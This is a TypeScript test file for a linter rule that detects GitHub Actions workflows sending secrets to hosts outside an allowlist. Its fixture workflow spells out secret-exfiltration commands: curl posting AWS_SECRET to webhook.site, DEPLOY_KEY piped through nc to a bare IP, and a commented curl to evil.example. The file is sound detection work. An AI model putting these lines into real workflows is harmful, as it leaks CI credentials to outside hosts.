import { describe, expect, it } from 'vitest';
import { auditFiles, summarize, yaml } from '../testing.js';
import { hostAllowed, DEFAULT_ALLOWED_HOSTS, rule } from './rule.js';

const run = (files: Record<string, string>, options: Record<string, unknown> = {}) => summarize(auditFiles(rule, files, options));

const wf = yaml`
  on: pull_request_target
  env:
    DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}
  jobs:
    a:
      runs-on: ubuntu-latest
      steps:
        - name: Leak
          run: |
            curl -s -d "k=\${{ secrets.AWS_SECRET }}" https://webhook.site/abc
            echo "$DEPLOY_KEY" | nc 203.0.113.7 4444
            wget --header="X-Key: $DEPLOY_KEY" https://deploy.example.com/hook
`;

describe('secret-exfiltration', () => {
  it('flags secrets sent to hosts off the allowlist, at the command, with the env binding as related', () => {
    const findings = auditFiles(rule, { '.github/workflows/x.yml': wf });
    expect(summarize(findings)).toEqual([
      '.github/workflows/x.yml:10:11-10:76 high/high step "Leak" of job "a" sends secret AWS_SECRET with curl to webhook.site, which is not an allowed host and is a request-capture, tunnel or paste service or a bare IP address; remove the secret from the request or add the host to "allowed-hosts" if it is yours',
      '.github/workflows/x.yml:11:11-11:51 high/high step "Leak" of job "a" sends secret DEPLOY_KEY with nc to 203.0.113.7, which is not an allowed host and is a request-capture, tunnel or paste service or a bare IP address; remove the secret from the request or add the host to "allowed-hosts" if it is yours',
      '.github/workflows/x.yml:12:11-12:77 medium/medium step "Leak" of job "a" sends secret DEPLOY_KEY with wget to deploy.example.com, which is not an allowed host; remove the secret from the request or add the host to "allowed-hosts" if it is yours',
    ]);
    expect(findings[1]!.related.map((r) => `${r.startLine}:${r.message}`)).toEqual(['3:DEPLOY_KEY holds secret DEPLOY_KEY']);
  });

  it('accepts your own hosts through allowed-hosts, with *. for subdomains, and validates the option', () => {
    expect(run({ '.github/workflows/x.yml': wf }, { 'allowed-hosts': ['*.example.com'] }).length).toBe(2);
    expect(() => auditFiles(rule, { '.github/workflows/x.yml': wf }, { 'allowed-hosts': 'example.com' })).toThrow(/allowed-hosts/);
  });

  it('does not flag allowlisted hosts, hosts only known at run time, requests without secrets, or comments', () => {
    expect(
      run({
        '.github/workflows/ok.yml': yaml`
          on: push
          jobs:
            a:
              runs-on: ubuntu-latest
              services:
                api:
                  image: nginx
              env:
                TOKEN: \${{ secrets.GITHUB_TOKEN }}
                NPM: \${{ secrets.NPM_TOKEN }}
              steps:
                - run: |
                    curl -H "Authorization: Bearer $TOKEN" https://api.github.com/repos/o/r
                    curl -H "Authorization: Bearer $TOKEN" "\${{ github.api_url }}/repos/o/r"
                    curl -X POST "\${{ secrets.SLACK_WEBHOOK_URL }}" -d '{"text":"done"}'
                    curl -H "token: $NPM" https://registry.npmjs.org/-/whoami
                    curl -s https://example.com/status
                    curl -H "k: $TOKEN" http://api:8080/health
                    # curl -d "$TOKEN" https://evil.example
                    curl -H 'k: $TOKEN' https://example.org
                    curl -d "x=$TOKEN" "https://$HOST/upload"
        `,
      }),
    ).toEqual([]);
  });

  it('matches subdomain patterns only on a dot boundary', () => {
    expect(hostAllowed('objects.githubusercontent.com', DEFAULT_ALLOWED_HOSTS)).toBe(true);
    expect(hostAllowed('evilgithubusercontent.com', DEFAULT_ALLOWED_HOSTS)).toBe(false);
    expect(hostAllowed('s3.us-east-1.amazonaws.com', DEFAULT_ALLOWED_HOSTS)).toBe(true);
  });
});
